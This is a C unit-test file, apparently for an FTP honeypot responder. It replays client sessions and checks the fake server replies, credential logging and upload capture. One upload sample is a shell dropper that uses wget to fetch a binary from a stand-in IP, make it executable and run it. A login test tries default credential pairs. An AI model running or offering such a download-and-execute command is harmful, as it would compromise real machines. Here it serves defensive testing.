@@ -1,0 +1,304 @@
+/*
+ * FTP responder: the control dialogue recorded from Python's ftplib
+ * (3.11) against the responder on a loopback listener, replayed here with
+ * the data-channel events the worker would report between its steps. Every
+ * scenario runs whole and one byte at a time.
+ */
+#include "test_resp_harness.h"
+
+enum { D_NONE, D_UPLOAD, D_CLOSE, D_FAIL };
+
+struct step {
+	const char *ctl; /* client control bytes */
+	int data;        /* what happens on the data channel afterwards */
+	const char *bytes;
+};
+
+/* Run the steps; returns the final action. */
+static int run_steps(struct tr_conn *c, const struct step *s, int n, int bytewise)
+{
+	tr_start(c);
+	for (int i = 0; i < n; i++) {
+		if (s[i].ctl && tr_feeds(c, s[i].ctl, bytewise) == RESP_CLOSE)
+			break;
+		switch (s[i].data) {
+		case D_UPLOAD:
+			if (bytewise)
+				for (size_t k = 0; s[i].bytes[k]; k++)
+					c->r->data_input(c->st, (const uint8_t *)s[i].bytes + k, 1, &c->out);
+			else
+				c->r->data_input(c->st, (const uint8_t *)s[i].bytes, strlen(s[i].bytes),
+				                 &c->out);
+			/* fall through */
+		case D_CLOSE:
+			c->act = c->r->data_closed(c->st, 0, &c->out);
+			break;
+		case D_FAIL:
+			c->act = c->r->data_closed(c->st, -1, &c->out);
+			break;
+		}
+	}
+	tr_render(c);
+	return c->act;
+}
+
+static void run_both(struct tr_conn *c, const struct step *s, int n, const struct resp_config *cfg)
+{
+	struct tr_conn b;
+	tr_open(&b, &resp_ftp, cfg);
+	run_steps(&b, s, n, 1);
+	tr_open(c, &resp_ftp, cfg);
+	run_steps(c, s, n, 0);
+	assert_int_equal(c->act, b.act);
+	assert_string_equal(tr_out(c), tr_out(&b));
+	assert_int_equal(c->npl, b.npl);
+	for (int i = 0; i < c->npl; i++)
+		assert_memory_equal(c->pl[i].data, b.pl[i].data, c->pl[i].len);
+	assert_int_equal(c->ev.len - c->fields_at, b.ev.len - b.fields_at);
+	assert_memory_equal(c->ev.data + c->fields_at, b.ev.data + b.fields_at,
+	                    c->ev.len - c->fields_at);
+	tr_close(&b);
+}
+
+#define UPLOAD "#!/bin/sh\nwget http://198.51.100.7/x86 -O /tmp/x; chmod +x /tmp/x; /tmp/x\n"
+
+/* ftplib: login, SYST, PWD, CWD, LIST, STOR, RETR (refused), PORT + NLST, QUIT */
+static const struct step ftplib_session[] = {
+	{"USER anonymous\r\nPASS guest@example.com\r\nSYST\r\nPWD\r\nCWD pub\r\nTYPE A\r\nPASV\r\n"
+	 "LIST\r\n",
+	 D_CLOSE, NULL},
+	{"TYPE I\r\nPASV\r\nSTOR bot.sh\r\n", D_UPLOAD, UPLOAD},
+	{"TYPE I\r\nPASV\r\nRETR secret.txt\r\n", D_CLOSE, NULL},
+	{"TYPE A\r\nPORT 127,0,0,1,173,5\r\nNLST\r\nQUIT\r\n", D_NONE, NULL},
+};
+
+static void test_ftplib_session(void **state)
+{
+	struct tr_conn c;
+	run_both(&c, ftplib_session, 4, NULL);
+	assert_int_equal(c.act, RESP_CLOSE);
+	assert_string_equal(tr_out(&c), "220 (vsFTPd 3.0.3)\r\n"
+	                                "331 Please specify the password.\r\n"
+	                                "230 Login successful.\r\n"
+	                                "215 UNIX Type: L8\r\n"
+	                                "257 \"/\" is the current directory\r\n"
+	                                "250 Directory successfully changed.\r\n"
+	                                "200 Switching to ASCII mode.\r\n"
+	                                "227 Entering Passive Mode (192,0,2,10,156,65).\r\n"
+	                                "150 Here comes the directory listing.\r\n"
+	                                "226 Directory send OK.\r\n"
+	                                "200 Switching to Binary mode.\r\n"
+	                                "227 Entering Passive Mode (192,0,2,10,156,66).\r\n"
+	                                "150 Ok to send data.\r\n"
+	                                "226 Transfer complete.\r\n"
+	                                "200 Switching to Binary mode.\r\n"
+	                                "227 Entering Passive Mode (192,0,2,10,156,67).\r\n"
+	                                "550 Failed to open file.\r\n"
+	                                "200 Switching to ASCII mode.\r\n"
+	                                "200 PORT command successful. Consider using PASV.\r\n"
+	                                "425 Failed to establish connection.\r\n"
+	                                "221 Goodbye.\r\n");
+	/* the listing went to the data channel */
+	assert_int_equal(c.send_calls, 1);
+	assert_non_null(strstr((char *)c.sent, " backup.tar.gz\r\ndrwxr-xr-x "));
+	assert_int_equal(c.listen_calls, 3);
+
+	assert_int_equal(c.npl, 1);
+	assert_string_equal(c.pl[0].kind, "ftp_upload");
+	assert_string_equal(c.pl[0].name, "bot.sh");
+	assert_string_equal((char *)c.pl[0].data, UPLOAD);
+
+	assert_string_equal(tr_str(&c, "credentials.username"), "anonymous");
+	assert_string_equal(tr_str(&c, "credentials.password"), "guest@example.com");
+	assert_string_equal(tr_str(&c, "credentials.method"), "USER/PASS");
+	assert_int_equal(tr_count(&c, "ftp.command"), 18);
+	assert_string_equal(tr_elem(&c, "ftp.command", 0, NULL), "USER anonymous");
+	assert_string_equal(tr_elem(&c, "ftp.command", 17, NULL), "QUIT");
+	assert_string_equal(tr_elem(&c, "ftp.stor", 0, NULL), "bot.sh");
+	assert_string_equal(tr_elem(&c, "ftp.retr", 0, NULL), "secret.txt");
+	assert_int_equal(tr_int(&c, "ftp.dynamic_port"), 40003);
+	assert_string_equal(tr_str(&c, "ftp.active_address"), "127.0.0.1:44293");
+	tr_close(&c);
+}
+
+static void test_stand_in_file(void **state)
+{
+	static const uint8_t file[] = "not what you think\n";
+	struct resp_config cfg = {0};
+	cfg.ftp.file = file;
+	cfg.ftp.file_len = sizeof(file) - 1;
+	cfg.ftp.file_name = "wallet.dat";
+	cfg.banner = "ProFTPD Server (Debian)";
+	static const struct step s[] = {
+		{"USER a\r\nPASS b\r\nSIZE wallet.dat\r\nEPSV\r\nRETR /pub/wallet.dat\r\n", D_CLOSE,
+		 NULL},
+		{"EPRT |2|2001:db8::1|5282|\r\nLIST\r\n", D_NONE, NULL},
+	};
+	struct tr_conn c;
+	run_both(&c, s, 2, &cfg);
+	assert_string_equal(tr_out(&c), "220 ProFTPD Server (Debian)\r\n"
+	                                "331 Please specify the password.\r\n"
+	                                "230 Login successful.\r\n"
+	                                "213 19\r\n"
+	                                "229 Entering Extended Passive Mode (|||40001|)\r\n"
+	                                "150 Opening BINARY mode data connection for wallet.dat "
+	                                "(19 bytes).\r\n"
+	                                "226 Transfer complete.\r\n"
+	                                "200 EPRT command successful. Consider using EPSV.\r\n"
+	                                "425 Failed to establish connection.\r\n");
+	assert_memory_equal(c.sent, file, sizeof(file) - 1);
+	assert_string_equal(tr_str(&c, "ftp.active_address"), "[2001:db8::1]:5282");
+	tr_close(&c);
+}
+
+static void test_data_before_command(void **state)
+{
+	/* the data channel delivers and closes before STOR is read */
+	static const struct step s[] = {
+		{"USER a\r\nPASS b\r\nPASV\r\n", D_UPLOAD, "early bytes"},
+		{"STOR early.bin\r\n", D_NONE, NULL},
+		{"PASV\r\nSTOR never.bin\r\n", D_FAIL, NULL},
+	};
+	struct tr_conn c;
+	run_both(&c, s, 3, NULL);
+	assert_true(tr_out_has(&c, "STOR") == 0);
+	assert_true(tr_out_has(&c, "150 Ok to send data.\r\n226 Transfer complete.\r\n227 "));
+	assert_true(tr_out_has(&c, "150 Ok to send data.\r\n425 Failed to establish connection.\r\n"));
+	assert_int_equal(c.npl, 1);
+	assert_string_equal(c.pl[0].name, "early.bin");
+	assert_string_equal((char *)c.pl[0].data, "early bytes");
+	tr_close(&c);
+}
+
+static const struct {
+	const char *tx;
+	const char *reply; /* after the banner */
+} dialogue[] = {
+	{"LIST\r\n", "530 Please login with USER and PASS.\r\n"},
+	{"PASS x\r\n", "503 Login with USER first.\r\n"},
+	{"FEAT\r\n", "211-Features:\r\n EPRT\r\n EPSV\r\n MDTM\r\n PASV\r\n REST STREAM\r\n SIZE\r\n"
+	             " TVFS\r\n UTF8\r\n211 End\r\n"},
+	{"AUTH TLS\r\n", "530 Please login with USER and PASS.\r\n"},
+	{"OPTS UTF8 ON\r\nNOOP\r\n", "200 Always in UTF8 mode.\r\n200 NOOP ok.\r\n"},
+	{"USER a\r\nPASS b\r\nLIST\r\n", "331 Please specify the password.\r\n230 Login successful.\r\n"
+	                                 "425 Use PORT or PASV first.\r\n"},
+	{"USER a\r\nPASS b\r\nPORT 1,2,3\r\n", "331 Please specify the password.\r\n230 Login "
+	                                       "successful.\r\n500 Illegal PORT command.\r\n"},
+	{"USER a\r\nPASS b\r\nMKD x\r\nCWD x\r\nPWD\r\nCDUP\r\nPWD\r\n",
+	 "331 Please specify the password.\r\n230 Login successful.\r\n257 \"/x\" created\r\n"
+	 "250 Directory successfully changed.\r\n257 \"/x\" is the current directory\r\n"
+	 "250 Directory successfully changed.\r\n257 \"/\" is the current directory\r\n"},
+	{"USER a\r\nPASS b\r\nRNTO y\r\nRNFR x\r\nRNTO y\r\nSITE CHMOD 777 x\r\nXYZ\r\n",
+	 "331 Please specify the password.\r\n230 Login successful.\r\n503 RNFR required first.\r\n"
+	 "350 Ready for RNTO.\r\n250 Rename successful.\r\n200 SITE CHMOD command ok.\r\n"
+	 "500 Unknown command.\r\n"},
+};
+
+static void test_dialogue(void **state)
+{
+	for (size_t i = 0; i < sizeof(dialogue) / sizeof(dialogue[0]); i++) {
+		struct tr_conn c;
+		tr_run_both(&c, &resp_ftp, NULL, dialogue[i].tx, strlen(dialogue[i].tx));
+		const char *o = tr_out(&c) + strlen("220 (vsFTPd 3.0.3)\r\n");
+		if (strcmp(o, dialogue[i].reply) != 0)
+			fail_msg("case %zu: got\n%s", i, o);
+		tr_close(&c);
+	}
+}
+
+static void test_login_reject(void **state)
+{
+	struct resp_config cfg = {0};
+	cfg.login_reject = 1;
+	static const char tx[] = "USER root\r\nPASS root\r\nUSER admin\r\nPASS admin\r\n"
+	                         "USER ftp\r\nPASS ftp\r\nUSER never\r\n";
+	struct tr_conn c;
+	tr_run_both(&c, &resp_ftp, &cfg, tx, strlen(tx));
+	assert_int_equal(c.act, RESP_CLOSE);
+	assert_int_equal(tr_int(&c, "credentials_count"), 3);
+	assert_string_equal(tr_elem(&c, "credentials_tried", 2, "password"), "ftp");
+	assert_false(tr_out_has(&c, "230"));
+	tr_close(&c);
+}
+
+static void test_auth_tls(void **state)
+{
+	struct resp_config cfg = {0};
+	cfg.starttls = 1;
+	struct tr_conn c;
+	tr_open(&c, &resp_ftp, &cfg);
+	tr_start(&c);
+	tr_feeds(&c, "FEAT\r\n", 0);
+	assert_true(tr_out_has(&c, "211-Features:\r\n AUTH TLS\r\n EPRT"));
+	resp_out_consume(&c.out, c.out.len);
+	assert_int_equal(tr_feeds(&c, "AUTH TLS\r\nUSER injected\r\n", 0), RESP_STARTTLS);
+	assert_string_equal(tr_out(&c), "234 Proceed with negotiation.\r\n");
+	resp_out_consume(&c.out, c.out.len);
+	tr_feeds(&c, "PBSZ 0\r\nPROT P\r\nUSER a\r\n", 0);
+	assert_string_equal(tr_out(&c), "200 PBSZ set to 0.\r\n200 PROT now Private.\r\n"
+	                                "331 Please specify the password.\r\n");
+	tr_render(&c);
+	assert_string_equal(tr_str(&c, "credentials.username"), "a");
+	tr_close(&c);
+}
+
+static void test_limits_and_timeout(void **state)
+{
+	struct tr_conn c;
+	char *big = malloc(70000);
+	big[0] = 0;
+	strcat(big, "USER a\r\nPASS b\r\n");
+	for (int i = 0; i < 80; i++)
+		strcat(big, "NOOP\r\n");
+	size_t n = strlen(big);
+	memset(big + n, 'x', 10000);
+	strcpy(big + n + 10000, "\r\n");
+	tr_run_both(&c, &resp_ftp, NULL, big, strlen(big));
+	assert_int_equal(tr_count(&c, "ftp.command"), 64);
+	assert_int_equal(tr_int(&c, "ftp.command_count"), 83);
+	assert_true(tr_out_has(&c, "500 Input line too long.\r\n"));
+	assert_int_equal(c.r->timeout(c.st, &c.out), RESP_CLOSE);
+	assert_true(tr_out_has(&c, "421 Timeout.\r\n"));
+	tr_close(&c);
+
+	/* fifty errors end the session */
+	big[0] = 0;
+	for (int i = 0; i < 60; i++)
+		strcat(big, "BOGUS\r\n");
+	tr_run_both(&c, &resp_ftp, NULL, big, strlen(big));
+	assert_int_equal(c.act, RESP_CLOSE);
+	assert_true(tr_out_has(&c, "421 Too many errors.\r\n"));
+	tr_close(&c);
+	free(big);
+}
+
+static void test_garbage(void **state)
+{
+	uint8_t junk[3000];
+	uint32_t x = 4242;
+	for (int round = 0; round < 50; round++) {
+		for (size_t i = 0; i < sizeof(junk); i++) {
+			x = x * 1103515245 + 12345;
+			uint8_t b = (uint8_t)(x >> 16);
+			junk[i] = (b & 0x1f) == 0 ? '\n' : b;
+		}
+		struct tr_conn c;
+		tr_run_both(&c, &resp_ftp, NULL, junk, sizeof(junk));
+		tr_close(&c);
+	}
+}
+
+int main(void)
+{
+	const struct CMUnitTest tests[] = {
+		cmocka_unit_test(test_ftplib_session),
+		cmocka_unit_test(test_stand_in_file),
+		cmocka_unit_test(test_data_before_command),
+		cmocka_unit_test(test_dialogue),
+		cmocka_unit_test(test_login_reject),
+		cmocka_unit_test(test_auth_tls),
+		cmocka_unit_test(test_limits_and_timeout),
+		cmocka_unit_test(test_garbage),
+	};
+	return cmocka_run_group_tests(tests, NULL, NULL);
+}
